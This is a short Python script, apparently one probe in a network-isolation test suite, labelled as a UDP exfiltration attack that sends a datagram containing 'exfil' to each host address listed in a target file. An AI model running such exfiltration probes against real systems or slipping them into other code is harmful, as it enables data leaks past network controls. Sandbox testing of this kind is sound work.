# attack: udp_sendto_host
# category: udp_exfil
# kind: network
# describe: UDP datagrams to every host address
import json
T = json.load(open("target.json"))

import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for ip in T["host_ips"]:
    try:
        s.sendto(b"exfil", (ip, T["udp_port"]))
    except OSError as e:
        print(ip, e)
